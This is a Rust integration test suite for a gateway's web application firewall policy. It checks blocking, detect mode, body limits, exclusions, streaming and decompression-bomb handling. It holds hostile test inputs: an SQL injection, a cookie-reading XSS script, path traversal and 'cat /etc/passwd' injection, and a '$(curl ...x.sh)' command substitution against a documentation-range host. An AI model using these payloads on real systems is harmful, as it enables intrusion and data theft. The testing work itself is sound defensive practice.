//! The `waf` policy in the real gateway, in front of a recording upstream: attacks in every part
//! of a request are blocked before the upstream sees them, benign values pass unchanged, and
//! detect mode, the body inspection limit, exclusions and streaming behave as documented.
//!
//! Most tests run the built-in rule set. `crs_blocks_at_paranoia_one` runs the OWASP CRS from
//! `PORTCULLIS_CRS_DIR` (a directory with `rules/`), by default `../shared/crs` relative to the
//! repository root, and skips with a message on standard error when it is absent.

mod common;

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use common::{Gateway, client, deflate, error_body, gzip, metric, node_config};
use http_body_util::BodyExt;
use tokio::sync::mpsc;

/// One request as the upstream received it.
#[derive(Debug, Clone)]
struct Seen {
    target: String,
    body: Bytes,
}

/// An upstream that records every request and responds with the body it received. On paths
/// that contain `/stream`, it reports each body frame on `frames` as it arrives.
struct RecordingUpstream {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
    frames: tokio::sync::Mutex<mpsc::UnboundedReceiver<Bytes>>,
}

impl RecordingUpstream {
    async fn start() -> RecordingUpstream {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let (frame_sender, frames) = mpsc::unbounded_channel();
        let recorded = seen.clone();
        tokio::spawn(async move {
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    continue;
                };
                let recorded = recorded.clone();
                let frame_sender = frame_sender.clone();
                tokio::spawn(async move {
                    let service = hyper::service::service_fn(move |request| {
                        record(request, recorded.clone(), frame_sender.clone())
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                        .await;
                });
            }
        });
        RecordingUpstream {
            addr,
            seen,
            frames: tokio::sync::Mutex::new(frames),
        }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    /// Waits up to `timeout` for the next body frame of a `/stream` request.
    async fn next_frame(&self, timeout: Duration) -> Option<Bytes> {
        let mut frames = self.frames.lock().await;
        tokio::time::timeout(timeout, frames.recv())
            .await
            .ok()
            .flatten()
    }
}

async fn record(
    request: hyper::Request<hyper::body::Incoming>,
    seen: Arc<Mutex<Vec<Seen>>>,
    frames: mpsc::UnboundedSender<Bytes>,
) -> Result<hyper::Response<http_body_util::Full<Bytes>>, std::convert::Infallible> {
    let target = request
        .uri()
        .path_and_query()
        .map_or("/".to_string(), |path| path.to_string());
    let streaming = target.contains("/stream");
    let mut body = request.into_body();
    let mut received = Vec::new();
    while let Some(Ok(frame)) = body.frame().await {
        if let Some(data) = frame.data_ref() {
            received.extend_from_slice(data);
            if streaming {
                let _ = frames.send(data.clone());
            }
        }
    }
    let body = Bytes::from(received);
    seen.lock().unwrap().push(Seen {
        target,
        body: body.clone(),
    });
    Ok(hyper::Response::new(http_body_util::Full::new(body)))
}

fn config(upstream: SocketAddr) -> String {
    format!(
        r#"{}
services:
  - name: app
    targets: [http://{upstream}]
routes:
  - name: guarded
    service: app
    paths: [/guarded]
    policies:
      - waf: {{ body_limit: 4096 }}
  - name: detect
    service: app
    paths: [/detect]
    policies:
      - waf: {{ mode: detect }}
  - name: lenient
    service: app
    paths: [/lenient]
    policies:
      - waf: {{ body_limit: 64, on_body_over_limit: pass }}
  - name: excluded
    service: app
    paths: [/excluded]
    policies:
      - waf:
          model: off
          exclusions:
            - rules: [100100]
              variables: ["ARGS:password", "ARGS:json.password"]
            - tags: [attack-xss]
  - name: inflate
    service: app
    paths: [/inflate]
    policies:
      - waf: {{ body_limit: 1048576 }}
  - name: open
    service: app
    paths: [/open]
"#,
        node_config()
    )
}

async fn start() -> (Gateway, RecordingUpstream) {
    let upstream = RecordingUpstream::start().await;
    let gateway = Gateway::start(&config(upstream.addr));
    (gateway, upstream)
}

const SQLI: &str = "1' UNION SELECT password FROM users--";
const XSS: &str = "<script>alert(document.cookie)</script>";

fn encode(value: &str) -> String {
    let mut output = String::new();
    for byte in value.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            output.push(char::from(byte));
        } else {
            output.push_str(&format!("%{byte:02X}"));
        }
    }
    output
}

fn multipart(field: &str, value: &str) -> (String, String) {
    let boundary = "portcullis-test-boundary";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n\
         --{boundary}--\r\n"
    );
    (format!("multipart/form-data; boundary={boundary}"), body)
}

/// Checks a 403 from the WAF, that the upstream saw nothing, and that the access log names the
/// rule and the score without the payload.
async fn assert_blocked(
    gateway: &Gateway,
    upstream: &RecordingUpstream,
    response: reqwest::Response,
    rule: u64,
    payload: &str,
    case: &str,
) {
    let before = upstream.seen().len();
    let request_id = response
        .headers()
        .get("x-request-id")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(response.status().as_u16(), 403, "{case}");
    let body = error_body(response, 403).await;
    assert_eq!(body["error"]["code"], "request_blocked", "{case}");
    assert_eq!(body["error"]["request_id"], request_id.as_str(), "{case}");
    assert_eq!(
        upstream.seen().len(),
        before,
        "{case}: upstream saw the request"
    );

    let line = gateway.access_log_line(&request_id);
    assert_eq!(line["status"], 403, "{case}");
    assert_eq!(line["rejected_by"], "waf", "{case}");
    assert_eq!(line["waf"]["verdict"], "block", "{case}");
    assert!(
        line["waf"]["score"].as_i64().unwrap() >= 5,
        "{case}: {line}"
    );
    let rules: Vec<u64> = line["waf"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|id| id.as_u64().unwrap())
        .collect();
    assert!(rules.contains(&rule), "{case}: rules {rules:?}");
    assert!(rules.contains(&100900), "{case}: rules {rules:?}");
    assert!(
        !line.to_string().contains(payload),
        "{case}: the access log holds the payload: {line}"
    );
}

#[tokio::test]
async fn attacks_blocked_in_every_part() {
    let (gateway, upstream) = start().await;
    let client = client();
    let url = gateway.url("/guarded/search");

    let cases: Vec<(&str, reqwest::RequestBuilder, u64, &str)> = vec![
        (
            "sqli in query",
            client.get(format!("{url}?q={}", encode(SQLI))),
            100100,
            SQLI,
        ),
        (
            "xss in query",
            client.get(format!("{url}?q={}", encode(XSS))),
            100200,
            XSS,
        ),
        (
            "sqli in json body",
            client
                .post(&url)
                .header("content-type", "application/json")
                .body(serde_json::json!({ "user": { "name": SQLI } }).to_string()),
            100100,
            "UNION SELECT",
        ),
        (
            "xss in json array",
            client
                .post(&url)
                .header("content-type", "application/json")
                .body(serde_json::json!({ "tags": ["a", XSS] }).to_string()),
            100200,
            "alert(document.cookie)",
        ),
        (
            "sqli in form body",
            client
                .post(&url)
                .header("content-type", "application/x-www-form-urlencoded")
                .body(format!("name=alice&comment={}", encode(SQLI))),
            100100,
            "UNION SELECT",
        ),
        (
            "xss in form body",
            client
                .post(&url)
                .header("content-type", "application/x-www-form-urlencoded")
                .body(format!("comment={}", encode(XSS))),
            100200,
            "alert(document.cookie)",
        ),
        {
            let (content_type, body) = multipart("comment", SQLI);
            (
                "sqli in multipart field",
                client
                    .post(&url)
                    .header("content-type", content_type)
                    .body(body),
                100100,
                "UNION SELECT",
            )
        },
        (
            "sqli in xml body",
            client
                .post(&url)
                .header("content-type", "application/xml")
                .body(format!(
                    "<order><note>{}</note></order>",
                    SQLI.replace('\'', "&apos;")
                )),
            100100,
            "UNION SELECT",
        ),
        (
            "sqli in cookie",
            client
                .get(&url)
                .header("cookie", format!("session=abc; pref={}", encode(SQLI))),
            100100,
            "UNION",
        ),
        (
            "xss in user agent",
            client.get(&url).header("user-agent", XSS),
            100200,
            "alert(document.cookie)",
        ),
        (
            "sqli in custom header",
            client.get(&url).header("x-search", SQLI),
            100100,
            "UNION SELECT",
        ),
        (
            "path traversal in query",
            client.get(format!("{url}?file=..%2F..%2Fetc%2Fpasswd")),
            100300,
            "etc/passwd",
        ),
        (
            "double-encoded path traversal in query",
            client.get(format!("{url}?file=%252e%252e%252fsecret.txt")),
            100300,
            "secret.txt",
        ),
        (
            "command injection in query",
            client.get(format!(
                "{url}?host={}",
                encode("127.0.0.1; cat /etc/passwd")
            )),
            100400,
            "etc/passwd",
        ),
        (
            "command substitution in json",
            client
                .post(&url)
                .header("content-type", "application/json")
                .body(r#"{"host": "$(curl http://198.51.100.7/x.sh)"}"#),
            100400,
            "x.sh",
        ),
    ];
    for (case, request, rule, payload) in cases {
        let response = request.send().await.unwrap();
        assert_blocked(&gateway, &upstream, response, rule, payload, case).await;
    }
    assert!(upstream.seen().is_empty(), "{:?}", upstream.seen());

    let blocked = metric(
        &gateway,
        r#"portcullis_waf_verdicts_total{route="guarded",family="BUILTIN-SQLI",verdict="block"}"#,
    )
    .await;
    assert_eq!(blocked, 7.0);
    let rejections = metric(
        &gateway,
        r#"portcullis_rejections_total{policy="waf",code="request_blocked"}"#,
    )
    .await;
    assert_eq!(rejections, 15.0);
}

/// Values that real API traffic carries and that a WAF must not block.
const BENIGN: [&str; 16] = [
    "It's a \"great\" day, isn't it? Let's meet at Joe's.",
    "O'Brien",
    "Dr. Seán O'Connor-Smith",
    "Please select a plan from the menu and update your profile.",
    "I'd like to drop the table reservation for 8 people; thanks!",
    "dogs; cat people say otherwise",
    "Use <b>bold</b> and <i>italic</i> in your comment",
    "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGJhc2U2NCBlbmNvZGVkIHRleHQu",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "alice.o'hara@example.com",
    "https://example.com/search?q=rust+async&page=2#results",
    "{\"nested\": [1, 2, {\"key\": \"value\"}]}",
    "SELECT your favourite colour: red, green or blue",
    "price >= 10 and rating <= 5",
    "fn main() { println!(\"hello\"); }",
    "id",
];

#[tokio::test]
async fn benign_values_pass_unchanged() {
    let (gateway, upstream) = start().await;
    let client = client();
    let url = gateway.url("/guarded/items");
    for value in BENIGN {
        let target = format!("/guarded/items?q={}", encode(value));
        let response = client.get(gateway.url(&target)).send().await.unwrap();
        assert_eq!(response.status().as_u16(), 200, "query {value:?}");

        let json = serde_json::json!({ "comment": value, "tags": [value] }).to_string();
        let response = client
            .post(&url)
            .header("content-type", "application/json")
            .body(json.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 200, "json {value:?}");
        assert_eq!(
            response.bytes().await.unwrap(),
            json.as_bytes(),
            "json {value:?}"
        );

        let form = format!("comment={}&name=x", encode(value));
        let response = client
            .post(&url)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(form.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 200, "form {value:?}");
        assert_eq!(
            response.bytes().await.unwrap(),
            form.as_bytes(),
            "form {value:?}"
        );
    }
    let seen = upstream.seen();
    assert_eq!(seen.len(), BENIGN.len() * 3);
    assert_eq!(
        seen[0].target,
        format!("/guarded/items?q={}", encode(BENIGN[0]))
    );

    let passed = metric(
        &gateway,
        r#"portcullis_waf_verdicts_total{route="guarded",family="none",verdict="pass"}"#,
    )
    .await;
    assert_eq!(passed, (BENIGN.len() * 3) as f64);
}

#[tokio::test]
async fn detect_mode_forwards_and_logs() {
    let (gateway, upstream) = start().await;
    let response = client()
        .get(gateway.url(&format!("/detect?q={}", encode(SQLI))))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    let request_id = response.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(upstream.seen().len(), 1);
    assert_eq!(
        upstream.seen()[0].target,
        format!("/detect?q={}", encode(SQLI))
    );

    let line = gateway.access_log_line(&request_id);
    assert_eq!(line["waf"]["verdict"], "detect");
    assert!(line.get("rejected_by").is_none(), "{line}");
    let rules = line["waf"]["rules"].as_array().unwrap();
    assert!(rules.contains(&serde_json::json!(100100)), "{line}");
    let detected = metric(
        &gateway,
        r#"portcullis_waf_verdicts_total{route="detect",family="BUILTIN-SQLI",verdict="detect"}"#,
    )
    .await;
    assert_eq!(detected, 1.0);
}

#[tokio::test]
async fn body_over_limit_blocks_or_passes() {
    let (gateway, upstream) = start().await;
    let client = client();

    // `guarded` inspects 4096 bytes and blocks larger bodies, declared or chunked.
    let large = "a".repeat(5000);
    let response = client
        .post(gateway.url("/guarded/upload"))
        .header("content-type", "text/plain")
        .body(large.clone())
        .send()
        .await
        .unwrap();
    let body = error_body(response, 413).await;
    assert_eq!(body["error"]["code"], "body_over_inspection_limit");

    let chunks: Vec<Result<Bytes, std::io::Error>> = vec![
        Ok(Bytes::from("a".repeat(3000))),
        Ok(Bytes::from("a".repeat(3000))),
    ];
    let response = client
        .post(gateway.url("/guarded/upload"))
        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
            chunks,
        )))
        .send()
        .await
        .unwrap();
    let body = error_body(response, 413).await;
    assert_eq!(body["error"]["code"], "body_over_inspection_limit");
    assert!(upstream.seen().is_empty());

    // A body of exactly the limit is inspected whole and forwarded.
    let exact = "b".repeat(4096);
    let response = client
        .post(gateway.url("/guarded/upload"))
        .body(exact.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.bytes().await.unwrap(), exact.as_bytes());

    // `lenient` inspects 64 bytes and forwards the whole larger body unchanged.
    let body = format!("comment=hello&filler={}", "c".repeat(500));
    let response = client
        .post(gateway.url("/lenient/form"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    let request_id = response.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(response.bytes().await.unwrap(), body.as_bytes());
    let line = gateway.access_log_line(&request_id);
    assert_eq!(line["waf"]["verdict"], "pass");
    assert_eq!(line["waf"]["body_partial"], true);

    // An attack inside the first 64 bytes is still found.
    let response = client
        .post(gateway.url("/lenient/form"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("q={}&filler={}", encode(SQLI), "c".repeat(500)))
        .send()
        .await
        .unwrap();
    let body = error_body(response, 403).await;
    assert_eq!(body["error"]["code"], "request_blocked");
    assert_eq!(upstream.seen().len(), 2);
}

#[tokio::test]
async fn exclusions_remove_rules_and_targets() {
    let (gateway, upstream) = start().await;
    let client = client();
    let url = gateway.url("/excluded/login");

    // Rule 100100 skips the `password` argument, in a form and in JSON.
    let form = format!("user=alice&password={}", encode(SQLI));
    let response = client
        .post(&url)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.bytes().await.unwrap(), form.as_bytes());
    let json = serde_json::json!({ "user": "alice", "password": SQLI }).to_string();
    let response = client
        .post(&url)
        .header("content-type", "application/json")
        .body(json)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);

    // Other arguments are still inspected by that rule.
    let response = client
        .post(&url)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("user={}&password=x", encode(SQLI)))
        .send()
        .await
        .unwrap();
    let body = error_body(response, 403).await;
    assert_eq!(body["error"]["code"], "request_blocked");

    // Rules tagged `attack-xss` do not run on this route, and still run on `guarded`.
    let target = format!("?q={}", encode(XSS));
    let response = client
        .get(gateway.url(&format!("/excluded/page{target}")))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    let response = client
        .get(gateway.url(&format!("/guarded/page{target}")))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 403);
    assert_eq!(upstream.seen().len(), 3);
}

/// Sends a request whose body is fed from a channel, and returns the sender and the pending
/// response.
fn streaming_request(
    url: String,
) -> (
    mpsc::Sender<Result<Bytes, std::io::Error>>,
    tokio::task::JoinHandle<reqwest::Response>,
) {
    let (sender, receiver) = mpsc::channel::<Result<Bytes, std::io::Error>>(4);
    let body = reqwest::Body::wrap_stream(tokio_stream(receiver));
    let response = tokio::spawn(async move { client().post(url).body(body).send().await.unwrap() });
    (sender, response)
}

fn tokio_stream(
    mut receiver: mpsc::Receiver<Result<Bytes, std::io::Error>>,
) -> impl futures_util::Stream<Item = Result<Bytes, std::io::Error>> {
    futures_util::stream::poll_fn(move |cx| receiver.poll_recv(cx))
}

#[tokio::test]
async fn body_streams_only_without_waf() {
    let (gateway, upstream) = start().await;

    // Without a waf policy the upstream gets the first chunk while the client still sends.
    let (sender, response) = streaming_request(gateway.url("/open/stream"));
    sender
        .send(Ok(Bytes::from_static(b"first,")))
        .await
        .unwrap();
    let frame = upstream.next_frame(Duration::from_secs(10)).await;
    assert_eq!(frame.as_deref(), Some(&b"first,"[..]));
    sender
        .send(Ok(Bytes::from_static(b"second")))
        .await
        .unwrap();
    drop(sender);
    let response = response.await.unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.bytes().await.unwrap(), &b"first,second"[..]);
    while upstream
        .next_frame(Duration::from_millis(200))
        .await
        .is_some()
    {}

    // With a waf policy the body is held until it is complete, then forwarded unchanged.
    let (sender, response) = streaming_request(gateway.url("/guarded/stream"));
    sender
        .send(Ok(Bytes::from_static(b"first,")))
        .await
        .unwrap();
    assert_eq!(upstream.next_frame(Duration::from_millis(500)).await, None);
    sender
        .send(Ok(Bytes::from_static(b"second")))
        .await
        .unwrap();
    drop(sender);
    let response = response.await.unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.bytes().await.unwrap(), &b"first,second"[..]);
    let seen = upstream.seen();
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[1].body, &b"first,second"[..]);
}

#[test]
fn malformed_rule_names_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    std::fs::write(
        dir.path().join("rules/custom.conf"),
        "SecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\n\nSecRule ARGS \"@verifyCC 1\" \"id:2,phase:2,deny\"\n",
    )
    .unwrap();
    let config = format!(
        "{}\npolicies:\n  - waf:\n      rules_dir: rules\n",
        node_config()
    );
    let config_path = dir.path().join("gateway.yaml");
    std::fs::write(&config_path, &config).unwrap();
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(["validate", "--config"])
        .arg(&config_path)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "{stderr}");
    assert!(
        stderr.contains("key `policies[0].waf.rules_dir`"),
        "{stderr}"
    );
    assert!(stderr.contains("custom.conf:3:"), "{stderr}");
    assert!(stderr.contains("@verifyCC"), "{stderr}");

    std::fs::write(
        &config_path,
        config.replace("rules_dir: rules", "rules_dir: missing"),
    )
    .unwrap();
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(["validate", "--config"])
        .arg(&config_path)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "{stderr}");
    assert!(
        stderr.contains("cannot read the rules directory"),
        "{stderr}"
    );
}

fn crs_rules() -> Option<PathBuf> {
    let dir = match std::env::var_os("PORTCULLIS_CRS_DIR") {
        Some(dir) => PathBuf::from(dir),
        None => PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs"),
    };
    let rules = dir.join("rules");
    if rules.is_dir() {
        Some(rules.canonicalize().unwrap())
    } else {
        eprintln!(
            "skipping: no CRS at {} (set PORTCULLIS_CRS_DIR to a directory with rules/)",
            dir.display()
        );
        None
    }
}

#[tokio::test]
async fn crs_blocks_at_paranoia_one() {
    let Some(rules) = crs_rules() else {
        return;
    };
    let upstream = RecordingUpstream::start().await;
    let config = format!(
        r#"{}
services:
  - name: app
    targets: [http://{}]
routes:
  - name: crs
    service: app
    paths: [/]
    policies:
      - waf: {{ rules_dir: "{}", paranoia: 1 }}
"#,
        node_config(),
        upstream.addr,
        rules.display()
    );
    let gateway = Gateway::start(&config);
    let client = client();

    let response = client
        .get(gateway.url(&format!("/search?q={}", encode(SQLI))))
        .header("user-agent", "portcullis-test")
        .header("accept", "*/*")
        .send()
        .await
        .unwrap();
    let request_id = response.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_string();
    let body = error_body(response, 403).await;
    assert_eq!(body["error"]["code"], "request_blocked");
    let line = gateway.access_log_line(&request_id);
    let rules = line["waf"]["rules"].as_array().unwrap();
    assert!(rules.contains(&serde_json::json!(949110)), "{line}");
    assert!(
        rules
            .iter()
            .any(|id| (942000..943000).contains(&id.as_u64().unwrap())),
        "{line}"
    );

    let json = serde_json::json!({ "name": "O'Brien", "note": "It's fine, isn't it?" }).to_string();
    let response = client
        .post(gateway.url("/orders"))
        .header("user-agent", "portcullis-test")
        .header("accept", "*/*")
        .header("content-type", "application/json")
        .body(json.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.bytes().await.unwrap(), json.as_bytes());
    assert_eq!(upstream.seen().len(), 1);
}

#[tokio::test]
async fn compressed_bodies_inspected_decoded() {
    let (gateway, upstream) = start().await;
    let client = client();
    let url = gateway.url("/guarded/orders");
    let post = |coding: &str, content_type: &str, body: Vec<u8>| {
        client
            .post(&url)
            .header("content-encoding", coding)
            .header("content-type", content_type)
            .body(body)
    };

    let attack = serde_json::json!({ "note": SQLI }).to_string();
    let response = post("gzip", "application/json", gzip(attack.as_bytes()))
        .send()
        .await
        .unwrap();
    assert_blocked(
        &gateway,
        &upstream,
        response,
        100100,
        "UNION SELECT",
        "gzip json",
    )
    .await;
    let form = format!("q={}", encode(XSS));
    let response = post(
        "deflate",
        "application/x-www-form-urlencoded",
        deflate(form.as_bytes()),
    )
    .send()
    .await
    .unwrap();
    assert_blocked(
        &gateway,
        &upstream,
        response,
        100200,
        "<script>",
        "deflate form",
    )
    .await;
    let response = post(
        "deflate, gzip",
        "application/json",
        gzip(&deflate(attack.as_bytes())),
    )
    .send()
    .await
    .unwrap();
    assert_blocked(
        &gateway,
        &upstream,
        response,
        100100,
        "UNION SELECT",
        "stacked",
    )
    .await;

    // A benign compressed body reaches the upstream as the client sent it.
    let benign = gzip(br#"{"customer":"alice","items":[{"sku":"A-100","quantity":2}]}"#);
    let response = post("gzip", "application/json", benign.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.bytes().await.unwrap(), benign);
    assert_eq!(upstream.seen().len(), 1);
    assert_eq!(upstream.seen()[0].body, benign);

    let response = post("gzip", "application/json", b"{\"plain\":true}".to_vec())
        .send()
        .await
        .unwrap();
    let body = error_body(response, 400).await;
    assert_eq!(body["error"]["code"], "invalid_content_encoding");
    let response = post("zstd", "application/json", b"{}".to_vec())
        .send()
        .await
        .unwrap();
    let body = error_body(response, 415).await;
    assert_eq!(body["error"]["code"], "unsupported_content_encoding");
    assert_eq!(upstream.seen().len(), 1);

    // Detect mode inspects an undecodable body as sent and forwards it.
    let response = client
        .post(gateway.url("/detect"))
        .header("content-encoding", "gzip")
        .body("not gzip")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(upstream.seen().len(), 2);
}

#[tokio::test]
async fn decompression_bombs_rejected() {
    let (gateway, upstream) = start().await;
    let client = client();
    let bomb = gzip(&vec![b'0'; 8 << 20]);
    assert!(bomb.len() < 64 * 1024, "{} bytes", bomb.len());

    // `inflate` inspects 1 MiB: decoding stops there and the ratio gives the bomb away.
    let response = client
        .post(gateway.url("/inflate/upload"))
        .header("content-encoding", "gzip")
        .header("content-type", "text/plain")
        .body(bomb.clone())
        .send()
        .await
        .unwrap();
    let body = error_body(response, 413).await;
    assert_eq!(body["error"]["code"], "decompression_ratio_exceeded");

    // `guarded` inspects 4096 bytes, so the decoded body is over its limit first.
    let response = client
        .post(gateway.url("/guarded/upload"))
        .header("content-encoding", "gzip")
        .header("content-type", "text/plain")
        .body(bomb)
        .send()
        .await
        .unwrap();
    let body = error_body(response, 413).await;
    assert_eq!(body["error"]["code"], "body_over_inspection_limit");
    assert!(upstream.seen().is_empty());
}
